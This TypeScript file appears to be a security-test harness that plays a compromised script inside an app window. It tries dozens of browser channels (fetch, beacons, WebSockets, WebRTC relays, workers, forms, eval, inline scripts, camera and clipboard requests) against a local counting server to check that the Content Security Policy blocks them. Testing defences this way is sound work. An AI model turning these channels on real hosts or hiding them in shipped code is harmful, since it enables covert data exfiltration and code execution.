/**
 * A script gone bad inside a window's bundle. The page loads it before the product's own code, so it has every global as
 * the browser made it. Attacks run in a turn of their own: what a debugger's call runs itself is exempt from the CSP.
 * It stands alone: it is stripped of its types and served as one file.
 */
interface Target {
  /** A server on this computer that counts who comes. */
  readonly sink: string;
  /** The same under a name, which has to be looked up first. */
  readonly named: string;
}

type Attack = (target: Target) => unknown;

const native = {
  fetch: globalThis.fetch?.bind(globalThis),
  WebSocket: globalThis.WebSocket,
  EventSource: globalThis.EventSource,
  XMLHttpRequest: globalThis.XMLHttpRequest,
  RTCPeerConnection: globalThis.RTCPeerConnection,
  Worker: globalThis.Worker,
  sendBeacon: navigator.sendBeacon?.bind(navigator),
};

const page: {
  violations: string[];
  ran: string[];
  attack?: (name: string, target: Target) => Promise<string>;
  attackNames?: readonly string[];
} = { violations: [], ran: [] };
Object.assign(globalThis, { compromised: page });

document.addEventListener('securitypolicyviolation', (event) => page.violations.push(event.effectiveDirective));

const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

/** `loaded` or `refused`; what says neither within half a second was refused too. */
function settled(target: EventTarget, good: string, bad: string): Promise<string> {
  return new Promise((resolve) => {
    target.addEventListener(good, () => resolve('loaded'));
    target.addEventListener(bad, () => resolve('refused'));
    setTimeout(() => resolve('silent'), 500);
  });
}

/** Puts an element in, gives it half a second, takes it out again. */
async function place(element: HTMLElement): Promise<string> {
  const result = settled(element, 'load', 'error');
  document.head.append(element);
  const outcome = await result;
  element.remove();
  return outcome;
}

function linkTo(rel: string, href: string, as?: string): HTMLLinkElement {
  const link = document.createElement('link');
  link.rel = rel;
  if (as !== undefined) link.as = as;
  link.href = href;
  return link;
}

const both = ({ sink, named }: Target): readonly string[] => [sink, named];

async function forEach(target: Target, attack: (base: string) => unknown): Promise<string> {
  const outcomes: string[] = [];
  for (const base of both(target)) {
    try {
      outcomes.push(String(await attack(base)));
    } catch (error) {
      outcomes.push((error as Error).name);
    }
  }
  return outcomes.join();
}

const attacks: Readonly<Record<string, Attack>> = {
  fetch: (target) => forEach(target, (base) => native.fetch(`${base}/fetch`, { mode: 'no-cors' }).then(() => 'loaded')),
  fetchOwnFile: () => native.fetch('/index.html').then(() => 'loaded'),
  xhr: (target) =>
    forEach(target, (base) => {
      const request = new native.XMLHttpRequest();
      const result = settled(request, 'load', 'error');
      request.open('GET', `${base}/xhr`);
      request.send();
      return result;
    }),
  webSocket: (target) =>
    forEach(target, (base) => settled(new native.WebSocket(base.replace(/^http/, 'ws')), 'open', 'error')),
  eventSource: (target) => forEach(target, (base) => settled(new native.EventSource(`${base}/es`), 'open', 'error')),
  // True only says that it was queued: the sink and the violations tell the rest.
  beacon: (target) => forEach(target, (base) => native.sendBeacon(`${base}/beacon`, 'x') && 'queued'),
  image: (target) =>
    forEach(target, (base) => {
      const image = new Image();
      const result = settled(image, 'load', 'error');
      image.src = `${base}/image.png`;
      return result;
    }),
  styleSheet: (target) => forEach(target, (base) => place(linkTo('stylesheet', `${base}/style.css`))),
  inlineStyleImage: (target) =>
    forEach(target, async (base) => {
      document.body.style.backgroundImage = `url(${base}/background.png)`;
      await pause(200);
      document.body.style.backgroundImage = '';
      return 'set';
    }),
  font: (target) =>
    forEach(target, (base) => new FontFace('Stolen', `url(${base}/font.woff2)`).load().then(() => 'loaded')),
  script: (target) =>
    forEach(target, (base) => {
      const script = document.createElement('script');
      script.src = `${base}/script.js`;
      return place(script);
    }),
  importedModule: (target) => forEach(target, (base) => import(`${base}/module.js`).then(() => 'loaded')),
  prefetch: (target) => forEach(target, (base) => place(linkTo('prefetch', `${base}/prefetch`))),
  preload: (target) => forEach(target, (base) => place(linkTo('preload', `${base}/preload`, 'fetch'))),
  modulePreload: (target) => forEach(target, (base) => place(linkTo('modulepreload', `${base}/module.js`))),
  preconnect: (target) => forEach(target, (base) => place(linkTo('preconnect', base))),
  dnsPrefetch: (target) => forEach(target, (base) => place(linkTo('dns-prefetch', base))),
  iframe: (target) =>
    forEach(target, async (base) => {
      const frame = document.createElement('iframe');
      frame.src = `${base}/frame`;
      document.body.append(frame);
      await pause(300);
      frame.remove();
      return 'tried';
    }),
  objectTag: (target) =>
    forEach(target, (base) => {
      const element = document.createElement('object');
      element.data = `${base}/object`;
      return place(element);
    }),
  media: (target) =>
    forEach(target, (base) => {
      const video = document.createElement('video');
      const result = settled(video, 'loadeddata', 'error');
      video.src = `${base}/video.mp4`;
      return result;
    }),
  form: (target) =>
    forEach(target, async (base) => {
      const form = document.createElement('form');
      form.action = `${base}/form`;
      document.body.append(form);
      form.submit();
      await pause(200);
      form.remove();
      return location.href === target.sink ? 'left' : 'stayed';
    }),
  navigation: (target) =>
    forEach(target, async (base) => {
      location.href = `${base}/elsewhere`;
      await pause(200);
      return 'stayed';
    }),
  popup: (target) => forEach(target, (base) => (window.open(`${base}/popup`) === null ? 'refused' : 'opened')),
  metaRefresh: (target) =>
    forEach(target, async (base) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;url=${base}/refresh`;
      document.head.append(meta);
      await pause(300);
      meta.remove();
      return 'stayed';
    }),
  anchorPing: (target) =>
    forEach(target, async (base) => {
      const anchor = document.createElement('a');
      anchor.href = '#nowhere';
      anchor.ping = `${base}/ping`;
      document.body.append(anchor);
      anchor.click();
      await pause(200);
      anchor.remove();
      return 'clicked';
    }),
  webRtc: async ({ sink, named }) => {
    const { hostname, port } = new URL(sink);
    const { host } = new URL(named);
    const iceServers = [
      {
        urls: [`turn:${hostname}:${port}?transport=tcp`, `turn:${host}?transport=tcp`],
        username: 'u',
        credential: 'c',
      },
      { urls: [`stun:${hostname}:${port}`, `stun:${host}`] },
    ];
    const connection = new native.RTCPeerConnection({ iceServers, iceTransportPolicy: 'all' });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    await pause(500);
    const candidates = connection.localDescription?.sdp.match(/typ (srflx|relay)/g) ?? [];
    connection.close();
    return candidates.length === 0 ? 'no way out' : 'found a way out';
  },
  webTransport: (target) =>
    forEach(target, async (base) => {
      const transport = new WebTransport(base.replace('http:', 'https:'));
      await Promise.race([
        transport.ready,
        pause(500).then(() => Promise.reject(new DOMException('silent', 'Silent'))),
      ]);
      return 'loaded';
    }),
  blobWorker: () => {
    new native.Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })) as string);
    return 'started';
  },
  foreignWorker: ({ sink }) => {
    new native.Worker(`${sink}/worker.js`);
    return 'started';
  },
  sharedWorker: ({ sink }) => {
    new SharedWorker(`${sink}/worker.js`);
    return 'started';
  },
  serviceWorker: () => navigator.serviceWorker.register('/index.html').then(() => 'registered'),
  eval: () => {
    const { eval: evaluate } = globalThis as unknown as { eval: (code: string) => unknown };
    evaluate('compromised.ran.push("eval")');
    return 'ran';
  },
  newFunction: () => {
    new Function('compromised.ran.push("function")')();
    return 'ran';
  },
  stringTimer: async () => {
    setTimeout('compromised.ran.push("timer")' as unknown as () => void, 0);
    await pause(50);
    return page.ran.includes('timer') ? 'ran' : 'refused';
  },
  inlineScript: () => {
    const script = document.createElement('script');
    script.append('compromised.ran.push("inline")');
    document.body.append(script);
    script.remove();
    return page.ran.includes('inline') ? 'ran' : 'refused';
  },
  inlineHandler: () => {
    document.body.setAttribute('onclick', 'compromised.ran.push("handler")');
    document.body.click();
    document.body.removeAttribute('onclick');
    return page.ran.includes('handler') ? 'ran' : 'refused';
  },
  javascriptUrl: async () => {
    const anchor = document.createElement('a');
    anchor.href = 'javascript:compromised.ran.push("url")';
    document.body.append(anchor);
    anchor.click();
    await pause(100);
    anchor.remove();
    return page.ran.includes('url') ? 'ran' : 'refused';
  },
  innerHtml: () => {
    const element = document.createElement('div');
    element.innerHTML = '<img src=x>';
    return 'parsed';
  },
  trustedTypesPolicy: () => {
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown };
    };
    trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
    return 'made';
  },
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'granted'),
  microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'granted'),
  screenCapture: () => navigator.mediaDevices.getDisplayMedia().then(() => 'granted'),
  clipboardRead: () => navigator.clipboard.readText().then(() => 'granted'),
  geolocation: () =>
    new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('granted'), reject)),
  notification: () => Notification.requestPermission(),
};

async function run(name: string, target: Target): Promise<string> {
  try {
    const attack = attacks[name];
    if (attack === undefined) return 'unknown';
    // Some ask the person; nobody answers here.
    return String(await Promise.race([attack(target), pause(1_000).then(() => 'silent')]));
  } catch (error) {
    return `threw ${(error as Error).name}`;
  }
}

page.attackNames = Object.keys(attacks);
page.attack = (name, target) => new Promise((resolve) => setTimeout(() => resolve(run(name, target))));
